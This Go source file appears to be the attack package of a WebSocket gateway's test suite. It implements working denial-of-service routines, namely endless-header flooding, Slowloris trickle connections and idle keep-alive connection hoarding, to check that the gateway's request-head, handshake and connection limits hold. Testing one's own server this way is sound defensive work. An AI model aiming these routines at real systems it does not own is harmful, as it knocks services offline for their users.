package attack

import (
	"bufio"
	"bytes"
	"context"
	"io"
	"net"
	"net/http"
	"net/url"
	"strconv"
	"sync"
	"time"

	"github.com/resoundhq/resound/protocol"
)

// WebSocketHead is the start of a WebSocket upgrade to the target, up to
// (not including) the blank line that ends the head.
func (t Target) WebSocketHead() string {
	return "GET /app/" + t.Key + "?protocol=7&client=resound-attack&version=1.0 HTTP/1.1\r\n" +
		"Host: " + t.Addr + "\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n" +
		"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
}

// APIHead is the start of a signed HTTP API request (method on
// /apps/{id}{path}) with body, up to the blank line that ends the head.
func (t Target) APIHead(method, path string, body []byte) string {
	full := "/apps/" + t.AppID + path
	q := url.Values{}
	q.Set("auth_key", t.Key)
	q.Set("auth_timestamp", strconv.FormatInt(time.Now().Unix(), 10))
	q.Set("auth_version", "1.0")
	if len(body) > 0 {
		q.Set("body_md5", protocol.BodyMD5(body))
	}
	q.Set("auth_signature", protocol.SignRequest(t.Secret, method, full, q))
	head := method + " " + full + "?" + q.Encode() + " HTTP/1.1\r\nHost: " + t.Addr + "\r\n"
	if len(body) > 0 {
		head += "Content-Type: application/json\r\nContent-Length: " + strconv.Itoa(len(body)) + "\r\n"
	}
	return head
}

// RawRequest sends head (from APIHead, say), the blank line and body on a
// new socket from source, and returns the status of the answer. Unlike
// net/http's client it takes an answer the server sent before reading the
// request (a refusal at accept), which is what an attacker sees.
func RawRequest(ctx context.Context, addr, head string, body []byte, source string) (int, error) {
	nc, err := DialTCP(ctx, addr, DialOptions{Source: source})
	if err != nil {
		return 0, err
	}
	defer nc.Close()
	_ = nc.SetDeadline(time.Now().Add(10 * time.Second))
	// A write error is not the end: the answer may already be there.
	_, _ = nc.Write(append([]byte(head+"Connection: close\r\n\r\n"), body...))
	resp, err := http.ReadResponse(bufio.NewReader(nc), nil)
	if err != nil {
		return 0, err
	}
	_ = resp.Body.Close()
	return resp.StatusCode, nil
}

// EndlessHeaderOptions configure EndlessHeader.
type EndlessHeaderOptions struct {
	// Sockets sending at once; default 40.
	Sockets int
	// Head is what each socket sends before the endless header line:
	// the request line and any headers (Target.WebSocketHead, APIHead).
	Head string
	// Duration is how long the sockets keep sending; default 8 s.
	Duration time.Duration
	// Reconnect opens a new socket when the server closes one before
	// Duration is up, so that the pressure lasts.
	Reconnect bool
	// Grace is how long after Duration a socket still open is given to be
	// closed by the server; default 5 s.
	Grace  time.Duration
	Source string
}

// EndlessHeaderResult is what the sockets saw.
type EndlessHeaderResult struct {
	// Attempts is sockets opened; DialErrors those that could not connect.
	Attempts, DialErrors int
	// Statuses counts the HTTP status each attempt got (0: closed with
	// none).
	Statuses map[int]int
	// Unclosed counts attempts the server had not closed Grace after the
	// sending stopped: it took every byte and said nothing.
	Unclosed int
	// MaxSent is the most bytes one attempt got into the socket before
	// the server closed it (the kernel's buffers take some of it).
	MaxSent int64
}

// EndlessHeader sends a request head whose last header line never ends,
// as fast as the sockets take it. A gateway that reads header lines
// without a bound holds all of it (the issue saw 4.6 GB from 40 sockets);
// one with RESOUND_MAX_REQUEST_HEAD answers 431 and closes.
func EndlessHeader(ctx context.Context, addr string, o EndlessHeaderOptions) EndlessHeaderResult {
	if o.Sockets <= 0 {
		o.Sockets = 40
	}
	if o.Duration <= 0 {
		o.Duration = 8 * time.Second
	}
	if o.Grace <= 0 {
		o.Grace = 5 * time.Second
	}
	stopAt := time.Now().Add(o.Duration)
	res := EndlessHeaderResult{Statuses: map[int]int{}}
	var mu sync.Mutex
	var wg sync.WaitGroup
	chunk := bytes.Repeat([]byte("a"), 16<<10)
	for range o.Sockets {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				status, sent, closed, err := endlessAttempt(ctx, addr, o, stopAt, chunk)
				mu.Lock()
				if err != nil {
					res.DialErrors++
				} else {
					res.Attempts++
					res.Statuses[status]++
					res.MaxSent = max(res.MaxSent, sent)
					if !closed {
						res.Unclosed++
					}
				}
				mu.Unlock()
				// A new socket needs time to pass any bound on the head: one
				// opened at the last moment would count as never closed.
				if err != nil || !o.Reconnect || time.Until(stopAt) < time.Second || ctx.Err() != nil {
					return
				}
				time.Sleep(20 * time.Millisecond) // pressure, not a port-exhaustion test
			}
		}()
	}
	wg.Wait()
	return res
}

func endlessAttempt(ctx context.Context, addr string, o EndlessHeaderOptions, stopAt time.Time, chunk []byte) (status int, sent int64, closed bool, err error) {
	nc, err := DialTCP(ctx, addr, DialOptions{Source: o.Source})
	if err != nil {
		return 0, 0, false, err
	}
	defer nc.Close()
	statusCh := make(chan statusErr, 1)
	go func() {
		st, err := readStatus(nc)
		statusCh <- statusErr{st, err}
	}()
	_ = nc.SetWriteDeadline(stopAt)
	n, werr := nc.Write([]byte(o.Head + "X-Endless: "))
	sent = int64(n)
	for werr == nil && time.Now().Before(stopAt) && ctx.Err() == nil {
		select {
		case st := <-statusCh:
			return st.status, sent, !isTimeout(st.err), nil
		default:
		}
		n, werr = nc.Write(chunk)
		sent += int64(n)
	}
	// Sending stopped (the server closed, or time is up): the server
	// must close the socket by the end of the grace.
	_ = nc.SetReadDeadline(stopAt.Add(o.Grace))
	st := <-statusCh
	return st.status, sent, !isTimeout(st.err), nil
}

type statusErr struct {
	status int
	err    error
}

// SlowlorisOptions configure Slowloris.
type SlowlorisOptions struct {
	// Sockets to open, one after the other as fast as they connect.
	Sockets int
	// Head is sent at once; then a header line trickles, a byte per
	// Interval (default 500 ms), never ending.
	Head     string
	Interval time.Duration
	// Timeout is how long a socket may stay open before the attack counts
	// it as never closed; default 30 s.
	Timeout time.Duration
	Source  string
}

// SlowlorisResult is what the sockets saw.
type SlowlorisResult struct {
	Opened, DialErrors int
	// Statuses counts the HTTP status each socket got (0: closed with
	// none).
	Statuses map[int]int
	// Unclosed counts sockets still open at Timeout.
	Unclosed int
	// Lifetimes holds how long each socket stayed open, in opening order.
	Lifetimes []time.Duration
}

// Slowloris opens many sockets that each send a request head slowly and
// never finish it. A gateway bounds how many handshakes are in progress
// (RESOUND_MAX_HANDSHAKES: the excess get 503) and how long one may take
// (RESOUND_HANDSHAKE_TIMEOUT).
func Slowloris(ctx context.Context, addr string, o SlowlorisOptions) SlowlorisResult {
	if o.Interval <= 0 {
		o.Interval = 500 * time.Millisecond
	}
	if o.Timeout <= 0 {
		o.Timeout = 30 * time.Second
	}
	res := SlowlorisResult{Statuses: map[int]int{}, Lifetimes: make([]time.Duration, o.Sockets)}
	var mu sync.Mutex
	var wg sync.WaitGroup
	for i := range o.Sockets {
		nc, err := DialTCP(ctx, addr, DialOptions{Source: o.Source})
		if err != nil {
			res.DialErrors++
			continue
		}
		res.Opened++
		opened := time.Now()
		wg.Add(2)
		done := make(chan struct{})
		go func() {
			defer wg.Done()
			defer close(done)
			_ = nc.SetReadDeadline(opened.Add(o.Timeout))
			status, err := readStatus(nc)
			mu.Lock()
			res.Statuses[status]++
			res.Lifetimes[i] = time.Since(opened)
			if isTimeout(err) {
				res.Unclosed++
			}
			mu.Unlock()
			_ = nc.Close()
		}()
		go func() {
			defer wg.Done()
			_ = nc.SetWriteDeadline(opened.Add(o.Timeout))
			if _, err := nc.Write([]byte(o.Head + "X-Slow: ")); err != nil {
				return
			}
			t := time.NewTicker(o.Interval)
			defer t.Stop()
			for {
				select {
				case <-done:
					return
				case <-ctx.Done():
					_ = nc.Close()
					return
				case <-t.C:
				}
				if _, err := nc.Write([]byte("a")); err != nil {
					return
				}
			}
		}()
	}
	wg.Wait()
	return res
}

// IdleHTTP is a set of keep-alive HTTP API connections, each of which sent
// one signed request and holds its slot without sending another.
type IdleHTTP struct {
	mu    sync.Mutex
	conns []net.Conn
	// Statuses counts the answers to each connection's request (-1: no
	// answer).
	Statuses map[int]int
	// RefusedOpen counts connections answered with an error status that
	// the server then left open.
	RefusedOpen int
}

// OpenIdleHTTP opens n connections one after the other, each sending a
// signed GET /apps/{id}/channels and reading the answer. Those answered
// 200 are kept open and idle (RESOUND_MAX_HTTP_CONNECTIONS counts them);
// the others are checked to be closed by the server.
func OpenIdleHTTP(ctx context.Context, t Target, n int, source string) (*IdleHTTP, error) {
	h := &IdleHTTP{Statuses: map[int]int{}}
	for range n {
		nc, err := DialTCP(ctx, t.Addr, DialOptions{Source: source})
		if err != nil {
			h.Close(-1)
			return nil, err
		}
		_ = nc.SetDeadline(time.Now().Add(10 * time.Second))
		br := bufio.NewReader(nc)
		status := -1
		if _, err := nc.Write([]byte(t.APIHead(http.MethodGet, "/channels", nil) + "\r\n")); err == nil {
			if resp, err := http.ReadResponse(br, nil); err == nil {
				status = resp.StatusCode
				_, _ = io.Copy(io.Discard, resp.Body)
				_ = resp.Body.Close()
			}
		}
		h.Statuses[status]++
		if status == http.StatusOK {
			_ = nc.SetDeadline(time.Time{})
			h.conns = append(h.conns, nc)
			continue
		}
		// Refused: the server must not keep the socket.
		_ = nc.SetReadDeadline(time.Now().Add(5 * time.Second))
		if _, err := io.Copy(io.Discard, nc); isTimeout(err) {
			h.RefusedOpen++
		}
		_ = nc.Close()
	}
	return h, nil
}

// Held is how many connections are held open.
func (h *IdleHTTP) Held() int {
	h.mu.Lock()
	defer h.mu.Unlock()
	return len(h.conns)
}

// Close closes k of the held connections (all when k < 0).
func (h *IdleHTTP) Close(k int) {
	h.mu.Lock()
	defer h.mu.Unlock()
	if k < 0 || k > len(h.conns) {
		k = len(h.conns)
	}
	for _, nc := range h.conns[:k] {
		_ = nc.Close()
	}
	h.conns = h.conns[k:]
}
